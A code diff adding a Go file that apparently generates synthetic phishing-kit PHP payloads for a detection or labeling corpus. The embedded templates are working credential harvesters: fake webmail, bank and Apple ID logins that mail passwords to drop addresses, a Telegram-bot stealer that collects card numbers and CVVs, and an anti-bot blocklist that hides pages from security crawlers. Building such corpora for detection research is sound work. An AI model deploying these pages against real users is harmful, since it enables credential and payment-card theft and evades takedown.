@@ -1,0 +1,153 @@
+package phishkit
+
+import (
+	"fmt"
+	"strings"
+)
+
+// This file models the inner layer of the phishing-kit onion: the
+// unpacked PHP/HTML payloads. Kit cores keep fixed identifiers and
+// structure across deployments — operators buy the kit and only swap
+// campaign constants — so, as with the exploit kits, the identifiers
+// below are fixed strings and only campaign data rotates.
+
+// mailerCore is the credential-exfiltration mailer shared by the
+// harvester kits (the phishing-kit ecosystem's equivalent of the copied
+// AV check: the same mailer snippet circulates across kit families).
+const mailerCore = `function collect_fields($src){$out=array();foreach($src as $k=>$v){$out[]=$k."=".$v;}return implode("&",$out);}
+function send_log($to,$body){$headers="From: system@".$_SERVER["SERVER_NAME"];@mail($to,"New Rezult",$body,$headers);}`
+
+// antiBotCore is the crawler/vendor gate: chalbhai-style kits ship long
+// blocklists of scanner IP prefixes and user-agent fragments so takedown
+// crawlers see a 404.
+const antiBotCore = `$blocked=array("66.102.","64.71.","72.14.","208.80.","crawl","spider","google","bingbot","phishtank","netcraft","kaspersky","virustotal");
+function is_bot($ip,$ua){global $blocked;foreach($blocked as $b){if(strpos($ip,$b)!==false||strpos(strtolower($ua),$b)!==false){return true;}}return false;}
+if(is_bot($_SERVER["REMOTE_ADDR"],strtolower($_SERVER["HTTP_USER_AGENT"]))){header("HTTP/1.0 404 Not Found");die();}`
+
+// Payload returns the unpacked inner document of a kit on a given day.
+// Within a version epoch the payload is constant except for strato's
+// per-day drop-address rotation (the churn that exercises incremental
+// labeling, as RIG's campaign URLs do for the JS corpus).
+func Payload(family Family, day int) string {
+	switch family {
+	case FamilyStrato:
+		return stratoPayload(day)
+	case FamilyChalbhai:
+		return chalbhaiPayload(day)
+	case FamilyXbalti:
+		return xbaltiPayload(day)
+	case FamilyShop16:
+		return shop16Payload(day)
+	default:
+		return ""
+	}
+}
+
+// stratoPayload is a webmail-credential harvester: stable mailer core,
+// per-day rotating drop addresses.
+func stratoPayload(day int) string {
+	r := rng("strato-drops", FamilyStrato, day, 0)
+	drops := make([]string, 2+r.Intn(3))
+	for i := range drops {
+		drops[i] = fmt.Sprintf("%s@%s.%s", randLower(r, 6, 10), randLower(r, 5, 9), randLower(r, 2, 3))
+	}
+	var sb strings.Builder
+	sb.WriteString("<?php\n$kit_build=\"strato_v2\";\n$drops=array(")
+	for i, d := range drops {
+		if i > 0 {
+			sb.WriteString(",")
+		}
+		sb.WriteString(`"` + d + `"`)
+	}
+	sb.WriteString(");\n")
+	sb.WriteString(mailerCore)
+	sb.WriteString(`
+if(isset($_POST["userid"])&&isset($_POST["passwd"])){
+$body=collect_fields($_POST)."|".$_SERVER["REMOTE_ADDR"];
+foreach($drops as $d){send_log($d,$body);}
+header("Location: https://webmail.example.com/appsuite/");
+die();
+}
+?>
+<html><head><title>Webmail Login</title></head><body>
+<div class="panel"><form method="post" action="">
+<label>Email</label><input type="text" name="userid">
+<label>Password</label><input type="password" name="passwd">
+<button type="submit">Sign in</button>
+</form></div></body></html>`)
+	return sb.String()
+}
+
+// chalbhaiPayload is a bank-login harvester fronted by the anti-bot gate;
+// the spoofed brand rotates per version epoch.
+func chalbhaiPayload(day int) string {
+	brands := []string{"firstunion", "meridian", "cascade", "harborview"}
+	epoch := VersionIndex(FamilyChalbhai, day)
+	r := rng("chal-brand", FamilyChalbhai, epoch, 0)
+	brand := brands[r.Intn(len(brands))]
+	return `<?php
+$chalbhai="v3";
+` + antiBotCore + `
+` + mailerCore + `
+$brand="` + brand + `";
+if(isset($_POST["username"])&&isset($_POST["password"])){
+$body="bank=".$brand."&".collect_fields($_POST);
+send_log("rezultbox@".$brand."-logs.net",$body);
+header("Location: step2.php");
+die();
+}
+?>
+<html><head><title>Online Banking</title></head><body>
+<div class="login-box"><h2>Sign On</h2>
+<form method="post" action="">
+<input type="text" name="username" placeholder="User ID">
+<input type="password" name="password" placeholder="Password">
+<input type="submit" value="Sign On">
+</form></div></body></html>`
+}
+
+// xbaltiPayload is a two-step harvester exfiltrating over a Telegram bot;
+// the bot token rotates per version epoch.
+func xbaltiPayload(day int) string {
+	epoch := VersionIndex(FamilyXbalti, day)
+	r := rng("xbalti-token", FamilyXbalti, epoch, 0)
+	token := fmt.Sprintf("%d:%s", 100000000+r.Intn(900000000), randAlnum(r, 30, 35))
+	chat := fmt.Sprintf("%d", 1000000+r.Intn(9000000))
+	return `<?php
+$xb_token="` + token + `";
+$xb_chat="` + chat + `";
+function tg_send($msg){global $xb_token,$xb_chat;$url="https://api.telegram.org/bot".$xb_token."/sendMessage?chat_id=".$xb_chat."&text=".urlencode($msg);@file_get_contents($url);}
+$step=isset($_GET["step"])?$_GET["step"]:"1";
+if($step=="1"&&isset($_POST["email"])){tg_send("xbalti|mail|".$_POST["email"]."|".$_POST["pass"]);header("Location: ?step=2");die();}
+if($step=="2"&&isset($_POST["cardno"])){tg_send("xbalti|card|".$_POST["cardno"]."|".$_POST["cvv"]."|".$_POST["expiry"]);header("Location: https://www.example.com/");die();}
+?>
+<html><head><title>Account Verification</title></head><body>
+<form method="post" action="">
+<input type="email" name="email"><input type="password" name="pass">
+<input type="text" name="cardno"><input type="text" name="cvv"><input type="text" name="expiry">
+<button type="submit">Continue</button>
+</form></body></html>`
+}
+
+// shop16Payload is a storefront-brand kit with a license check and
+// per-locale strings; the license key rotates per version epoch.
+func shop16Payload(day int) string {
+	epoch := VersionIndex(FamilyShop16, day)
+	r := rng("16shop-key", FamilyShop16, epoch, 0)
+	key := randAlnum(r, 24, 28)
+	return `<?php
+$apikey="` + key + `";
+function check_license($key){$h=md5($key."16shop");return substr($h,0,2)!=="zz";}
+if(!check_license($apikey)){die("license");}
+$locale=isset($_GET["lang"])?$_GET["lang"]:"en";
+$strings=array("en"=>array("title"=>"Verify Your Account","cta"=>"Continue"),"jp"=>array("title"=>"Verify","cta"=>"Next"));
+if(!isset($strings[$locale])){$locale="en";}
+` + mailerCore + `
+if(isset($_POST["appleid"])){send_log("result@shop-panel.live",collect_fields($_POST));header("Location: done.php");die();}
+?>
+<html><head><title><?php echo $strings[$locale]["title"]; ?></title></head><body>
+<div class="card"><form method="post" action="">
+<input type="text" name="appleid"><input type="password" name="applepw">
+<button type="submit"><?php echo $strings[$locale]["cta"]; ?></button>
+</form></div></body></html>`
+}
